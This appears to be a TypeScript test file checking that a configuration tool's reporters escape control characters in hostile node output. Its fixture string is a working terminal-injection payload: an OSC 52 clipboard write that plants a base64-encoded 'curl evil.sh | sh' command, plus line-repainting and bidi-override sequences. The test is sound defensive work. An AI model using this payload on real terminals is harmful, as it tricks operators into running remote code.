/**
 * A hostile node's output must not drive the operator's terminal. The attacker's script:
 * a command prints an OSC 52 clipboard write, a carriage return plus erase-line that
 * repaints its `fatal:` line as `ok:`, a C1 CSI and a bidi override. Every reporter shows
 * them as visible escapes; JSON lines keep the exact text for a JSON reader.
 */
import t from 'tap';
import { PassThrough } from 'node:stream';
import type { Reporter, RunEvent } from '../../src/engine/events.ts';
import { createJsonReporter } from '../../src/report/json.ts';
import { createListrReporter } from '../../src/report/listr.ts';
import { createPlainReporter } from '../../src/report/plain.ts';
import { escapeControls } from '../../src/report/terminal-safe.ts';

const HOSTILE = 'boom\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\r\x1b[2Kok: [node1]\u009b2J\u202eevil\x7f';
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/;

const events: RunEvent[] = [
  { type: 'play_start', play: 'p', hosts: ['node1'] },
  { type: 'task_start', play: 'p', task: `read ${HOSTILE}`, hosts: ['node1'], handler: false },
  { type: 'host_progress', host: 'node1', task: 't', message: HOSTILE },
  { type: 'warning', host: 'node1', message: HOSTILE },
  {
    type: 'host_result',
    host: 'node1',
    task: 't',
    status: 'failed',
    ignored: false,
    result: { changed: false, failed: true, skipped: false, msg: HOSTILE, diff: { before: 'a\n', after: `${HOSTILE}\n` } },
  },
  { type: 'play_end', play: 'p' },
  { type: 'run_end', check: false, recap: { node1: { ok: 0, changed: 0, unreachable: 0, failed: 1, skipped: 0, rescued: 0, ignored: 0 } } },
];

async function capture(make: (out: PassThrough) => Reporter): Promise<string> {
  const out = new PassThrough();
  let text = '';
  out.on('data', (d) => (text += d));
  const reporter = make(out);
  for (const e of events) reporter.event(e);
  await reporter.close();
  return text;
}

t.test('escapeControls keeps newlines and shows every other control', async (t) => {
  t.equal(escapeControls('a\nb'), 'a\nb');
  t.equal(escapeControls('\x1b[31mred\r\t\x00'), '\\x1b[31mred\\x0d\\x09\\x00');
  t.equal(escapeControls('\u009b\u202e'), '\\x9b\\u202e');
  t.equal(escapeControls('héllo 日本'), 'héllo 日本', 'printable text is untouched');
});

const textReporters: Record<string, (out: PassThrough) => Reporter> = {
  plain: (out) => createPlainReporter(out, { verbose: 2, diff: true, secrets: () => [] }),
  'listr (simple)': (out) => createListrReporter({ out, verbose: 2, diff: true, secrets: () => [], renderer: 'simple' }),
};

for (const [name, make] of Object.entries(textReporters)) {
  t.test(`the ${name} reporter shows node text's controls, never sends them`, async (t) => {
    const text = await capture(make);
    t.notMatch(text, /\x1b\]52/, 'no clipboard write');
    t.notMatch(text, /\r/, 'no carriage return to repaint a line');
    t.notMatch(text, /\u009b|\u202e/, 'no C1 CSI, no bidi override');
    t.match(text, '\\x1b]52;c;', 'the sequence is shown escaped');
    t.match(text, '\\x0d\\x1b[2Kok: [node1]', 'the repaint attempt is visible as text');
  });
}

t.test('the listr reporter still draws its own view on a terminal', async (t) => {
  const text = await capture((out) => createListrReporter({ out, verbose: 2, diff: false, secrets: () => [], renderer: 'default' }));
  t.notMatch(text, /\x1b\]52/);
  t.notMatch(text, /\u009b|\u202e/);
  t.match(text, '\\x1b]52;c;');
});

t.test('JSON lines: every control escaped, the text intact for a JSON reader', async (t) => {
  const text = await capture((out) => createJsonReporter(out, { secrets: () => [] }));
  const lines = text.trim().split('\n');
  for (const l of lines) t.notMatch(l, RAW_CONTROL, 'no raw control in a JSON line');
  const result = lines.map((l) => JSON.parse(l)).find((r) => r.type === 'host_result');
  t.equal(result.result.msg, HOSTILE, 'decoded, the message is what the node sent');
});
